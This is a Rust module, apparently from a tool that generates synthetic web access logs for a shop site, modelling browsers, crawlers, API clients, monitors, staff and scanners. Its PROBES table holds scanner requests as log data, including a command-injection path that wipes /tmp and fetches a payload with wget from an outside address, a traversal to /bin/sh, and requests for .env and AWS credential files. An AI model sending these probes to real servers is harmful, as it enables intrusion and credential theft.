//! The world of an access log: a shop, and those who visit it.
//!
//! Whatever a person sees who knows real logs is decided here, once: which files a page needs and from where they are asked
//! for, which agents there are and how often, that a crawler asks for `robots.txt` first, that a monitor is punctual and a
//! scanner gets 404. What comes at which line is then drawn from tables, so that shares are exactly the configured ones.

mod addresses;
mod agents;
mod answers;
mod pages;
mod words;

pub(super) use addresses::Addresses;

use super::alias::{Alias, zipf};
use super::chance::{Chance, Purpose};
use super::settings::{PathSettings, World as Wanted};
use super::world::{Actor, Exchange, Size, World};
use answers::{Answers, Manner, Weighted};
use pages::Pages;

/// Where people come from, and how often.
const ENTRIES: [(&str, f64); 22] = [
    ("-", 46.0),
    ("https://www.google.com/", 27.0),
    ("https://www.google.de/", 2.0),
    ("https://www.google.co.uk/", 2.0),
    ("android-app://com.google.android.googlequicksearchbox/", 1.6),
    ("https://www.bing.com/", 4.0),
    ("https://duckduckgo.com/", 3.0),
    ("https://www.ecosia.org/", 0.8),
    ("https://search.brave.com/", 0.6),
    ("https://yandex.ru/", 0.5),
    ("https://www.facebook.com/", 1.2),
    ("https://l.facebook.com/", 1.4),
    ("https://m.facebook.com/", 0.8),
    ("https://l.instagram.com/", 1.8),
    ("https://t.co/kQ3vXz81Lm", 0.5),
    ("https://t.co/9aPfW2hTzc", 0.3),
    ("https://www.reddit.com/", 0.9),
    ("https://out.reddit.com/", 0.2),
    ("https://news.ycombinator.com/", 0.3),
    ("https://www.youtube.com/", 0.9),
    ("https://www.pinterest.com/", 0.8),
    ("https://mail.google.com/", 0.4),
];

/// What scanners try, and what they get.
const PROBES: [(&str, &str, u16); 30] = [
    ("GET", "/.env", 404),
    ("GET", "/wp-login.php", 404),
    ("POST", "/xmlrpc.php", 404),
    ("GET", "/.git/config", 403),
    ("GET", "/wp-admin/setup-config.php", 404),
    ("GET", "/phpmyadmin/index.php", 404),
    ("GET", "/admin.php", 404),
    ("GET", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404),
    ("GET", "/actuator/health", 404),
    ("POST", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", 400),
    ("GET", "/boaform/admin/formLogin?username=ec8&psd=ec8", 404),
    ("GET", "/owa/auth/logon.aspx", 404),
    ("GET", "/server-status", 403),
    ("GET", "/config.json", 404),
    ("GET", "/.aws/credentials", 403),
    ("GET", "/backup.zip", 404),
    ("GET", "/solr/admin/info/system?wt=json", 404),
    ("GET", "/?XDEBUG_SESSION_START=phpstorm", 200),
    ("GET", "/remote/login", 404),
    ("GET", "/HNAP1", 404),
    ("POST", "/boaform/admin/formLogin", 404),
    ("GET", "/login.jsp", 404),
    ("GET", "/manager/html", 404),
    ("GET", "/cgi-bin/luci/;stok=/locale?form=country&operation=read", 404),
    ("GET", "/shell?cd+/tmp;rm+-rf+*;wget+192.0.2.66/jaws", 404),
    ("GET", "/wp-content/plugins/wp-file-manager/readme.txt", 404),
    ("OPTIONS", "/", 405),
    ("GET", "/sitemap.xml.gz", 404),
    ("GET", "/old/", 404),
    ("GET", "/telescope/requests", 404),
];

/// The world of these settings.
pub(super) fn build(wanted: &Wanted, seed: u64) -> World {
    let mut world = World::new(&wanted.host);
    let mut site = Chance::new(seed, Purpose::Site, 0);
    let mut people = Chance::new(seed, Purpose::Clients, 0);
    let base = format!("https://{}", wanted.host);
    let manner = Manner {
        page_bytes: (wanted.size_median, wanted.size_sigma),
        page_micros: wanted.latency_median_micros,
        failures: wanted.failures,
    };
    let mut addresses = Addresses::default();
    let traffic = &wanted.traffic;
    let browsers: Vec<(String, f64)> = match &wanted.agents {
        Some(agents) => agents.clone(),
        None => agents::browsers(),
    };
    let mut crowd = Crowd { world: &mut world, chance: &mut people, addresses: &mut addresses, wanted };

    // Those who speak HTTP/2 and those who speak HTTP/1.1 see the same site in two editions.
    let mut answers = Answers { manner, protocol: "HTTP/2.0", seed, chance: &mut site };
    if let Some(paths) = &wanted.paths {
        answers.protocol = "HTTP/1.1";
        let pages = listed(crowd.world, &mut answers, paths, &base);
        crowd.people(1.0, pages, &browsers, wanted.clients);
        return world;
    }
    let (count, exponent) = (wanted.pages, wanted.page_exponent);
    let new = pages::people(crowd.world, &mut answers, &base, count, exponent);
    crowd.people(traffic.people * wanted.http2, new, &browsers, wanted.clients * 6 / 10);
    let calls = calls(crowd.world, &mut answers);
    crowd.apps(traffic.apps, calls);
    answers.protocol = "HTTP/1.1";
    let old = pages::people(crowd.world, &mut answers, &base, count, exponent);
    crowd.people(traffic.people * (1.0 - wanted.http2), old, &browsers, wanted.clients * 26 / 100);
    let crawled = pages::crawled(crowd.world, &mut answers, count, exponent);
    let robots = crowd.world.resource(answers.file("/robots.txt", 412.0, 0.1));
    let robots = crowd.world.single(robots, 0);
    crowd.crawlers(traffic.crawlers, crawled, robots);
    let feeds = fixed(
        crowd.world,
        vec![
            (answers.file("/blog/feed.xml", 41_000.0, 0.74), 5.0),
            (answers.file("/blog/atom.xml", 38_000.0, 0.70), 2.0),
            (answers.only("GET", "/feed", 301), 0.6),
            (answers.file("/blog/comments/feed.xml", 9_000.0, 0.9), 0.8),
        ],
    );
    crowd.readers(traffic.feeds, feeds);
    let health = fixed(
        crowd.world,
        vec![
            (
                vec![
                    (answers.one("GET", "/health", 200, Size::Fixed(15), 900.0), 1.0),
                    (answers.short("GET", "/health", 503, 800.0), 0.001),
                ],
                5.0,
            ),
            (
                vec![
                    (answers.one("HEAD", "/", 200, Size::None, 5200.0), 1.0),
                    (answers.one("HEAD", "/", 503, Size::None, 800.0), 0.001),
                ],
                3.0,
            ),
        ],
    );
    crowd.monitors(traffic.monitors, health);
    let probes = PROBES.iter().map(|(method, target, status)| (answers.only(method, target, *status), 1.0)).collect();
    let probes = fixed(crowd.world, probes);
    crowd.scanners(traffic.scanners, probes);
    let rooms = [
        "/admin/",
        "/admin/orders?status=open",
        "/admin/stock",
        "/stats/",
        "/admin/orders/export.csv",
        "/admin/customers?page=2",
    ];
    let mut offices: Vec<(Weighted, f64)> = rooms.iter().map(|room| (answers.page(room), 1.0)).collect();
    offices.push((answers.call("POST", "/admin/stock", 302, &[(422, 0.05)]), 1.0));
    let offices = fixed(crowd.world, offices);
    crowd.staff(wanted.users, offices, &browsers);
    world
}

/// Calls of the API.
fn calls(world: &mut World, answers: &mut Answers<'_>) -> Pages {
    let mut calls = vec![
        (answers.call("POST", "/api/v1/session", 200, &[(401, 0.06), (429, 0.004)]), 3.0),
        (answers.call("GET", "/api/v1/products?category=camping&page=1", 200, &[(304, 0.1)]), 9.0),
        (answers.call("GET", "/api/v1/products?category=sale&page=1", 200, &[(304, 0.1)]), 9.0),
        (answers.call("GET", "/api/v1/cart", 200, &[(401, 0.01)]), 8.0),
        (answers.call("POST", "/api/v1/cart/items", 201, &[(409, 0.01), (422, 0.01)]), 4.0),
        (answers.call("PATCH", "/api/v1/cart/items/3", 200, &[(404, 0.01)]), 1.5),
        (answers.call("DELETE", "/api/v1/cart/items/3", 204, &[(404, 0.02)]), 1.5),
        (answers.call("GET", "/api/v1/me", 200, &[(401, 0.04)]), 6.0),
        (answers.call("PUT", "/api/v1/me/settings", 200, &[(400, 0.01)]), 0.6),
        (answers.call("POST", "/api/v1/orders", 201, &[(402, 0.02), (422, 0.02)]), 0.8),
        (answers.call("POST", "/api/v1/events", 204, &[(400, 0.004)]), 14.0),
        (answers.call("OPTIONS", "/api/v1/products", 204, &[]), 2.0),
    ];
    for id in 0..60 {
        let target = format!("/api/v1/products/{}", 1001 + 5 * id);
        calls.push((answers.call("GET", &target, 200, &[(304, 0.12), (404, 0.004)]), 24.0 / f64::from(id + 1)));
    }
    fixed(world, calls)
}

/// Pages of one request each.
fn fixed(world: &mut World, resources: Vec<(Weighted, f64)>) -> Pages {
    let first = world.pages.len() as u32;
    let mut weights = Vec::new();
    for (answers, weight) in resources {
        let resource = world.resource(answers);
        world.single(resource, 0);
        weights.push(weight);
    }
    Pages { first, weights }
}

/// The paths of the configuration, in place of the shop.
fn listed(world: &mut World, answers: &mut Answers<'_>, paths: &[PathSettings], base: &str) -> Pages {
    let first = world.pages.len() as u32;
    for path in paths {
        let mut exchanges: Vec<(Exchange, f64)> = Vec::new();
        for (method, method_share) in &path.methods {
            for (status, status_share) in &path.statuses {
                let size = match status {
                    204 | 304 => Size::None,
                    200..300 => path.bytes.map_or(Size::Around(answers.manner.page_bytes.0 as u32), Size::Fixed),
                    _ => Size::Fixed(path.bytes.unwrap_or(157).min(157)),
                };
                let micros = answers.manner.page_micros;
                exchanges.push((answers.one(method, &path.path, *status, size, micros), method_share * status_share));
            }
        }
        if !path.statuses.iter().any(|(status, _)| *status >= 500) {
            exchanges.push((answers.short("GET", &path.path, 503, 500.0), 0.0));
        }
        let url = world.referrer(&format!("{base}{}", path.path));
        let resource = world.resource(exchanges);
        world.single(resource, url);
    }
    Pages { first, weights: paths.iter().map(|path| path.weight).collect() }
}

/// Adds those who come.
struct Crowd<'a> {
    world: &'a mut World,
    chance: &'a mut Chance,
    addresses: &'a mut Addresses,
    wanted: &'a Wanted,
}

impl Crowd<'_> {
    fn actor(&mut self, share: f64, pages: &Pages, first_client: u32, weights: &[f64]) -> &mut Actor {
        let entry = self.world.referrer("-");
        self.world.actors.push(Actor {
            share,
            first_client,
            clients: Alias::new(weights),
            first_page: pages.first,
            pages: Alias::new(&pages.weights),
            entries: vec![entry],
            entry: Alias::new(&[1.0]),
            ..Actor::default()
        });
        let last = self.world.actors.len() - 1;
        &mut self.world.actors[last]
    }

    fn next_client(&self) -> u32 {
        self.world.clients.len() as u32
    }

    fn people(&mut self, share: f64, pages: Pages, browsers: &[(String, f64)], count: usize) {
        let first = self.next_client();
        let weights = zipf(count.max(1), self.wanted.client_exponent);
        let agents: Vec<u32> = browsers.iter().map(|(agent, _)| self.world.agent(agent)).collect();
        let mut owed = Owed::new(browsers.iter().map(|(_, share)| *share), weights.iter().sum());
        for weight in &weights {
            let address = self.addresses.home(self.chance, self.wanted.ipv6);
            let agent = agents.get(owed.next(*weight)).copied().unwrap_or_default();
            self.world.client(address, None, agent);
        }
        let entries: Vec<u32> = ENTRIES.iter().map(|(referrer, _)| self.world.referrer(referrer)).collect();
        let shares: Vec<f64> = ENTRIES.iter().map(|(_, share)| *share).collect();
        let actor = self.actor(share, &pages, first, &weights);
        (actor.entries, actor.entry) = (entries, Alias::new(&shares));
        (actor.goes_on, actor.refers) = (0.62, true);
    }

    fn apps(&mut self, share: f64, pages: Pages) {
        let first = self.next_client();
        let weights = zipf((self.wanted.clients * 6 / 100).max(1), self.wanted.client_exponent);
        let mut owed = Owed::new(agents::APPS.iter().map(|(_, share)| *share), weights.iter().sum());
        for weight in &weights {
            let (agent, _) = agents::APPS[owed.next(*weight)];
            let is_program = !agent.starts_with("okhttp") && !agent.starts_with("Harbour");
            let address = match is_program {
                true => self.addresses.cloud(self.chance),
                false => self.addresses.home(self.chance, self.wanted.ipv6),
            };
            let agent = self.world.agent(agent);
            self.world.client(address, None, agent);
        }
        self.actor(share, &pages, first, &weights).goes_on = 0.8;
    }

    fn crawlers(&mut self, share: f64, pages: Pages, robots: u32) {
        let first = self.next_client();
        let mut weights = Vec::new();
        let each = (self.wanted.clients / 1000).clamp(2, 40);
        for crawler in &agents::CRAWLERS {
            let agent = self.world.agent(crawler.agent);
            for _ in 0..each {
                let address = self.addresses.of_block(self.chance, crawler.block);
                self.world.client(address, None, agent);
                weights.push(crawler.share / each as f64);
            }
        }
        let actor = self.actor(share, &pages, first, &weights);
        (actor.opening, actor.goes_on, actor.is_hasty) = (Some((robots, 0.7)), 0.86, true);
    }

    fn readers(&mut self, share: f64, pages: Pages) {
        let first = self.next_client();
        let count = (self.wanted.clients / 50).clamp(7, 2000);
        let mut weights = Vec::new();
        for number in 0..count {
            let (agent, share) = agents::READERS[number % agents::READERS.len()];
            let agent = self.world.agent(agent);
            let address = self.addresses.cloud(self.chance);
            self.world.client(address, None, agent);
            weights.push(share / (1.0 + (number / agents::READERS.len()) as f64).sqrt());
        }
        self.actor(share, &pages, first, &weights);
    }

    fn monitors(&mut self, share: f64, pages: Pages) {
        let first = self.next_client();
        let mut weights = Vec::new();
        for (agent, block, share) in agents::MONITORS {
            let agent = self.world.agent(agent);
            for _ in 0..2 {
                let address = self.addresses.of_block(self.chance, block);
                self.world.client(address, None, agent);
                weights.push(share);
            }
        }
        self.actor(share, &pages, first, &weights);
    }

    fn scanners(&mut self, share: f64, pages: Pages) {
        let first = self.next_client();
        let count = (self.wanted.clients / 25).clamp(10, 5000);
        let shares = Alias::new(&agents::SCANNERS.map(|(_, share)| share));
        for _ in 0..count {
            let (agent, _) = agents::SCANNERS[shares.draw(self.chance.bits()) as usize];
            let agent = self.world.agent(agent);
            let address = match self.chance.happens(0.6) {
                true => self.addresses.cloud(self.chance),
                false => self.addresses.home(self.chance, 0.0),
            };
            self.world.client(address, None, agent);
        }
        let actor = self.actor(share, &pages, first, &zipf(count, 0.6));
        (actor.goes_on, actor.is_hasty) = (0.9, true);
    }

    fn staff(&mut self, share: f64, pages: Pages, browsers: &[(String, f64)]) {
        let first = self.next_client();
        for (number, user) in self.wanted.user_names.iter().enumerate() {
            let agent = browsers.get(number * 5 % browsers.len().max(1)).map_or("-", |(agent, _)| agent.as_str());
            let agent = self.world.agent(agent);
            let address = self.addresses.home(self.chance, 0.0);
            self.world.client(address, Some(user.clone()), agent);
        }
        let count = self.wanted.user_names.len();
        let share = if count == 0 { 0.0 } else { share };
        let weights = zipf(count, 0.5);
        self.actor(share, &pages, first, &weights).goes_on = 0.8;
    }
}

/// Gives agents to clients so that their shares of the traffic, not only of the clients, are the wanted ones: each client
/// gets the agent to which most is owed.
struct Owed {
    left: Vec<f64>,
}

impl Owed {
    fn new(shares: impl Iterator<Item = f64> + Clone, traffic: f64) -> Owed {
        let sum: f64 = shares.clone().sum();
        Owed { left: shares.map(|share| share / sum.max(f64::MIN_POSITIVE) * traffic).collect() }
    }

    fn next(&mut self, weight: f64) -> usize {
        let most = self.left.iter().enumerate().max_by(|(_, left), (_, right)| left.total_cmp(right));
        let at = most.map_or(0, |(at, _)| at);
        if let Some(left) = self.left.get_mut(at) {
            *left -= weight;
        }
        at
    }
}
